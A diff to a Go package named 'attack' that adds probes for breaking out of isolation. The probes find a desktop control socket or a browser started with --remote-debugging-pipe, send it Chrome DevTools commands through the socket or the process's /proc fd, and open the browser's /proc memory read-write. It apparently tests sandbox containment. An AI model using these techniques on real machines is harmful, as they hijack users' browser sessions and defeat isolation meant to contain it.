@@ -3,13 +3,16 @@
 package attack
 
 import (
+	"bufio"
 	"encoding/json"
 	"errors"
 	"fmt"
 	"io"
+	"io/fs"
 	"net"
 	"net/http"
 	"os"
+	"path/filepath"
 	"strconv"
 	"strings"
 	"time"
@@ -65,6 +68,81 @@ var verbs = map[string]func(string) error{
 	"stay":     stay,
 	"takeover": takePorts,
 	"show":     show,
+	"browse":   browse,
+	"pipe": func(string) error {
+		return ofBrowser("fd/3", os.O_WRONLY, func(f *os.File) error {
+			_, err := io.WriteString(f, `{"id":1,"method":"Target.getTargets"}`+"\x00")
+			return err
+		})
+	},
+	"memory": func(string) error { return ofBrowser("mem", os.O_RDWR, func(*os.File) error { return nil }) },
+}
+
+// browse asks the keepers of desktops in a data folder for the tabs of a browser.
+func browse(data string) error {
+	came := errors.New("there is no keeper of a browser")
+	for _, folder := range []string{data, os.TempDir()} {
+		_ = filepath.WalkDir(folder, func(path string, d fs.DirEntry, _ error) error {
+			if d != nil && d.Name() == "control" && came != nil {
+				came = browseBy(path)
+			}
+			return nil
+		})
+	}
+	return came
+}
+
+func browseBy(socket string) error {
+	ask := func(question string) (io.ReadWriteCloser, *bufio.Reader, string, error) {
+		c, err := net.Dial("unix", socket)
+		if err != nil {
+			return nil, nil, "", err
+		}
+		_ = c.SetDeadline(time.Now().Add(time.Minute))
+		_, _ = io.WriteString(c, question+"\n")
+		r := bufio.NewReader(c)
+		answer, err := r.ReadString('\n')
+		return c, r, answer, err
+	}
+	c, _, answer, err := ask(`{"do":"browsers"}`)
+	if err != nil {
+		return err
+	}
+	c.Close()
+	var got struct{ Browsers []struct{ PID int } }
+	if err := json.Unmarshal([]byte(answer), &got); err != nil || len(got.Browsers) == 0 {
+		return fmt.Errorf("the keeper answers %s %w", answer, err)
+	}
+	c, r, answer, err := ask(fmt.Sprintf(`{"do":"browse","browser":%d}`, got.Browsers[0].PID))
+	if err != nil || strings.Contains(answer, "error") {
+		return fmt.Errorf("the keeper answers %s %w", answer, err)
+	}
+	defer c.Close()
+	_, _ = io.WriteString(c, `{"id":1,"method":"Target.getTargets"}`+"\x00")
+	if tabs, err := r.ReadString(0); !strings.Contains(tabs, "targetInfos") {
+		return fmt.Errorf("the browser answers %s %w", tabs, err)
+	}
+	return nil
+}
+
+// ofBrowser opens a file of a browser that has a pipe.
+func ofBrowser(name string, mode int, use func(*os.File) error) error {
+	came := errors.New("there is no browser with a pipe")
+	all, _ := filepath.Glob("/proc/[0-9]*")
+	for _, process := range all {
+		line, _ := os.ReadFile(filepath.Join(process, "cmdline"))
+		if !strings.Contains(string(line), "--remote-debugging-pipe") || strings.Contains(string(line), "--type=") {
+			continue
+		}
+		f, err := os.OpenFile(filepath.Join(process, name), mode, 0)
+		if err != nil {
+			came = err
+			continue
+		}
+		defer f.Close()
+		return use(f)
+	}
+	return came
 }
 
 const call = `{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"list_runs","arguments":{},"_meta":{` +
